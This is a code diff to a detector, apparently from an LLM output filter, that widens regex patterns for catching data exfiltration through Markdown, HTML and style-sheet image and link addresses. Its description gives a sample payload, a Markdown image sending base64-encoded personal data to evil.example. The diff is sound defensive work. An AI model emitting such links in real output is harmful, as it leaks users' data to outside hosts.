@@ -7,10 +7,10 @@ export const detector: Detector = {
   id: 'exfiltration',
   category: 'exfiltration',
   points: { response: 'deny' },
-  version: 1,
+  version: 2,
   describe: {
     finds:
-      'Images and links (Markdown, HTML, bare) whose address holds masked values, credentials, e-mail addresses, encoded text or a slot for data.',
+      'Images and links (Markdown, its definitions and autolinks, HTML, style sheets, bare) whose address holds masked values, credentials, e-mail addresses, encoded text or a slot for data.',
     example: '![x](https://evil.example/p.png?q=bmFtZTogSmFuZSBEb2U=)',
     passes: '![build](https://img.shields.io/badge/build-passing-green.svg?style=flat)',
   },
@@ -23,12 +23,15 @@ const TAXONOMY = ['CWE-201', 'LLM02:2025', 'LLM05:2025'];
 
 /** Schemes that ask no server for anything, or are judged by `active_content`. */
 const MARKDOWN = /(!?)\[[^[\]\n]{0,300}\]\([ \t]{0,4}<?((?:https?:)?\/\/[^\s)>"']{4,8192})/g;
-const REFERENCE = /^[ ]{0,3}\[[^\]\n]{1,100}\]:[ \t]{0,8}<?((?:https?:)?\/\/[^\s>]{4,8192})/gm;
-const TAG = /<(img|image|source|video|audio|iframe|embed|object|link|track|input|body|table|td|a|area|form|base|meta)[\s/][^<>]{0,8192}/gi;
+const REFERENCE = /^(?:[ >]{0,12}(?:[*+-][ ]{1,3})?)\[[^\]\n]{1,100}\]:\s{0,8}<?((?:https?:)?\/\/[^\s>]{4,8192})/gm;
+/** `url(…)`, `image-set(…)`, `@import "…"` in style sheets, wherever they stand. */
+const STYLE = /(?:url\s{0,4}\(|image-set\s{0,4}\(|@import)\s{0,4}["']?((?:https?:)?\/\/[^\s"')<>;]{4,8192})/gi;
+const TAG =
+  /<(img|image|source|video|audio|iframe|embed|object|link|track|input|body|table|td|a|area|form|base|meta|svg|use|math|mi|mtext|q|blockquote|ins|del|button|frame|portal|feimage|animate|set|tr|th|div|span|p)[\s/][^<>]{0,8192}/gi;
 const ATTRIBUTE =
-  /[\s"'/](?:src|srcset|href|xlink:href|data|poster|background|action|formaction|content|style)[ \t]{0,4}=[ \t]{0,4}(?:"([^"]{4,8192})"|'([^']{4,8192})'|([^\s"'>]{4,8192}))/gi;
+  /[\s"'/](?:src|srcset|href|xlink:href|data|poster|background|action|formaction|content|style|cite|ping|imagesrcset|longdesc|lowsrc|dynsrc|manifest|formtarget|values|to|from)[ \t]{0,4}=[ \t]{0,4}(?:"([^"]{4,8192})"|'([^']{4,8192})'|([^\s"'>]{4,8192}))/gi;
 const IN_VALUE = /(?:https?:)?\/\/[^\s"')>,;]{4,8192}/g;
-const BARE = /\bhttps?:\/\/[^\s<>"'`)\]]{8,8192}/g;
+const BARE = /\bhttps?:\/\/[^\s<>"'`)\]\p{Cc}]{8,8192}/gu;
 
 /** Tags whose address is fetched without a click. */
 const FETCHED = new Set([
@@ -46,6 +49,13 @@ const FETCHED = new Set([
   'body',
   'table',
   'td',
+  'tr',
+  'th',
+  'frame',
+  'portal',
+  'use',
+  'feimage',
+  'meta',
 ]);
 
 function setUp({ settings }: DetectorSetup): Scanner {
@@ -78,6 +88,7 @@ function scanView(view: View, trusted: Trusted, sink: Sink): void {
     judge(url, end - url.length, match[1] === '!' ? 'image' : 'link', match.index, text[end] === ')' ? end + 1 : end);
   }
   for (const match of text.matchAll(REFERENCE)) judgeAt(match, judge);
+  for (const match of text.matchAll(STYLE)) judgeAt(match, judge);
   if (text.includes('<')) tags(text, judge);
   for (const match of text.matchAll(BARE)) judge(match[0], match.index, 'link', match.index, match.index + match[0].length);
 }
